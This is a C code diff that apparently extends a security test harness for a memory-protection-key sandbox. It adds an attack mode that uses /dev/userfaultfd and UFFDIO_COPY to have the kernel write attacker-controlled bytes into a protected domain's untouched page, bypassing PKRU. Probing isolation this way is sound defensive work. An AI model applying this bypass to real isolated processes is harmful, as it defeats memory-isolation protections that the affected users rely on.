@@ -20,6 +20,7 @@
 #include <time.h>
 #include <linux/bpf.h>
 #include <linux/perf_event.h>
+#include <linux/userfaultfd.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/personality.h>
@@ -597,6 +598,35 @@ static long shm_exec(uintptr_t target, long secret)
 	return 1;
 }
 
+/*
+ * userfaultfd without its system call: /dev/userfaultfd (Linux 6.1, root
+ * by its mode) makes one with an ioctl. Registered over a page of app's
+ * that nothing has touched yet, UFFDIO_COPY fills it with evil's bytes:
+ * the kernel writes it, whatever the PKRU. 1 when the copy went through;
+ * 0 with errno set when refused.
+ */
+static long userfaultfd_dev(uintptr_t target, uintptr_t len)
+{
+	int dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
+	if (dev < 0)
+		return 0;
+	int fd = ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC);
+	close(dev);
+	if (fd < 0)
+		return 0;
+	struct uffdio_api api = {.api = UFFD_API};
+	struct uffdio_register reg = {.range = {target, len}, .mode = UFFDIO_REGISTER_MODE_MISSING};
+	static long evil[512] __attribute__((aligned(4096)));
+	evil[0] = 666;
+	struct uffdio_copy copy = {.dst = target, .src = (uintptr_t)evil, .len = len};
+	long r = !ioctl(fd, UFFDIO_API, &api) && !ioctl(fd, UFFDIO_REGISTER, &reg) &&
+		 !ioctl(fd, UFFDIO_COPY, &copy);
+	int err = errno;
+	close(fd);
+	errno = err;
+	return r;
+}
+
 static void *relay(void *arg)
 {
 	app_hold((int)(intptr_t)arg);
@@ -770,6 +800,8 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		  */
 		r = syscall(SYS_arch_prctl, 0x4002 /* ARCH_ENABLE_TAGGED_ADDR */, 6);
 		break;
+	case 41:
+		return userfaultfd_dev(target, len);
 	case 29: /* every stack of every pool free: the next thread gets one in use */
 		for (uint64_t c = 0; c < 16; c++) {
 			size_t n = 0;
